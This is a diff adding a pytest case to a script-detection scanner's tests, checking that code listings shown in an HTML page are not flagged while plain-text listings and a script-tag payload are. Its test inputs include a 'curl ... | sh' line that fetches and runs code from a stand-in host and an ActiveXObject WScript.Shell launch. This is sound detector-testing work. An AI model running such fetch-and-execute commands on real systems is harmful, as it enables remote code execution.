@@ -266,6 +266,18 @@ def test_scripts_that_a_page_carries_in_addresses_are_judged_with_it():
     assert list(ScriptDetector(SCOPE).look(Sample(runs, b"new ActiveXObject('WScript.Shell').Run('calc')")))
 
 
+@pytest.mark.parametrize("listing", ["def go(x):\n    return x\n", "curl -s https://h.example/a | sh\n", "Write-Host lab\n", "require('fs').readFileSync('a')\n"])
+def test_listings_in_a_page_that_a_script_made_are_there_to_be_read(listing: str) -> None:
+    page = f"<html><body><h1>Functions</h1><pre>\n{listing}</pre></body></html>"
+
+    def found(text: str, *names: str, type: str = "text/html") -> list[str]:
+        artifact = Artifact(1, 0, ArtifactKind.OBJECT, names, detected_type=type, label="played")
+        return [f.code for f in ScriptDetector(SCOPE).look(Sample(artifact, text.encode()))]
+
+    assert found(page) == [] and found(listing, type="text/plain") and found(page, "a.dat")
+    assert found("<html><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>") == ["SCRIPT-HOST"]
+
+
 def test_functions_of_forms_are_judged_with_their_document() -> None:
     data = b"function rate(a, b) {\n return a / b;\n}\n"
     for kind, held in (("text/x-pdf-script", False), ("text/plain", True)):
